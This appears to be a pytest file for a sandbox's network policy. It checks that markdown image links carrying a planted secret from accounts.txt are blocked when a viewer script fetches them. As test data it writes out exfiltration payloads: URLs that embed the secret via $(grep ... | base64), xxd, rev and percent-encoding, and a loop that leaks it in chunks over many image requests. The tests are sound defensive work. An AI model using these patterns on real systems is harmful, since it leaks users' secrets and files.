"""A picture or a link whose address carries sensitive data: whoever fetches it inside, it does not leave."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
from tests.fakes.internet import World, clients, fake_internet, why_not
from tests.fakes.internet.standing import Standing, standing_with

CODE = "gannet-6502-plover"
HOSTS = {"hosts": [{"host": "api.test", "methods": ["*"], "clearance": "internal"}]}
SENSITIVE = [{"place": "accounts.txt"}]
VIEWER = """
import re, subprocess, sys
for url in re.findall(r"!\\[[^\\]]*\\]\\(([^)]+)\\)", open(sys.argv[1]).read()):
    subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code} ", url])
"""


@pytest.fixture(scope="module")
def world() -> Iterator[World]:
    if reason := why_not() or clients.missing("curl"):
        pytest.skip(reason)
    with fake_internet() as made:
        yield made


@pytest.fixture(params=["root", pytest.param("user", marks=pytest.mark.slow)])
def standing(request: pytest.FixtureRequest, world: World) -> Iterator[Standing]:
    yield from standing_with(
        world, request.param, {"accounts.txt": f"3 accounts; master code {CODE}\n", "view.py": VIEWER}
    )


def test_a_viewer_fetches_the_plain_picture_and_none_that_carries_the_code(
    standing: Standing, world: World
) -> None:
    mark = world.mark()
    pictures = (
        "https://api.test/plain.png",
        f"https://api.test/p.png?c={CODE}",
        f"https://api.test/{CODE}.png",
        "https://api.test/b.png?q=$(grep -o 'gannet.*' accounts.txt | base64)",
        "https://api.test/h.png?q=$(grep -o 'gannet.*' accounts.txt | xxd -p)",
        "https://api.test/r.png?q=$(grep -o 'gannet.*' accounts.txt | rev)",
        "https://api.test/u.png?q=%67annet%2D6502%2Dplover",
    )
    lines = "\n".join(f'echo "![s]({url})" >> REPORT.md' for url in pictures)
    script = f"cat accounts.txt > /dev/null\n{lines}\n/usr/bin/python3 view.py REPORT.md\n"
    done = standing.sh(script, HOSTS, sensitive=SENSITIVE)
    assert done.stdout.decode().split() == ["200"] + ["403"] * 6, done.stderr.decode()
    assert [one.path for one in world.requests(mark)] == ["/plain.png"]
    story = json.loads(standing("show", "last", "--json").stdout)
    told = [one["reason"] for one in story["effects"] if one["operation"] == "net.read"]
    assert len([one for one in told if "sensitive" in one or "internal" in one]) == 6, told


def test_a_code_that_is_dealt_out_over_many_pictures_does_not_leave_whole(
    standing: Standing, world: World
) -> None:
    mark = world.mark()
    script = (
        "cat accounts.txt > /dev/null\n"
        f"for c in {' '.join(CODE[at : at + 3] for at in range(0, len(CODE), 3))}; do "
        'echo "![s](https://api.test/p.png?c=$c)" >> REPORT.md; done\n'
        "/usr/bin/python3 view.py REPORT.md\n"
    )
    standing.sh(script, HOSTS, sensitive=SENSITIVE)
    left = "".join(one.path.partition("=")[2] for one in world.requests(mark))
    assert CODE not in left
    assert CODE.startswith(left)
